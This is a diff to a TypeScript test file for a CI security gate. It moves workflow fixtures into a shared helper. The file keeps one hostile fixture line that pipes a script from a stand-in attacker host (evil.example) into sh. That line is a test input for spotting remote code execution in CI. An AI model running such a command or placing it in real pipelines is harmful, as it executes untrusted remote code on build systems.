@@ -5,21 +5,11 @@
 // loses the gate.
 import { gateBatch } from '../helpers/gate-batch.js';
 import { cleanupTemp } from '../helpers/repo.js';
+import { APP, AUDIT, CI, GATE_HEAD as HEAD, RUSTUP, UV, WF, run, type Files } from '../helpers/fetch-lines.js';
 
 afterAll(cleanupTemp);
 
-type Files = Record<string, string>;
-const WF = '.github/workflows/ci.yml';
-const CI = '.gitlab-ci.yml';
-const APP = { 'src/app.js': 'console.log(1);\n' };
-const RUSTUP = "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y";
-const UV = 'curl -LsSf https://astral.sh/uv/install.sh | sh';
 const EVIL = 'curl -sSL https://evil.example/i.sh | sh';
-const AUDIT = 'npx gitguard audit';
-const run = (s: string): string => `      - run: ${JSON.stringify(s)}\n`;
-const HEAD =
-  'on: push\njobs:\n  gate:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n' +
-  '        with:\n          fetch-depth: 0\n';
 /** A GitHub gate job: `lines` each a step before the audit's. */
 const wf = (...lines: string[]): Files => ({ [WF]: `${HEAD}${[...lines, AUDIT].map(run).join('')}` });
 /** A GitHub gate job: `lines` in the gate step's own script, before its audit. */
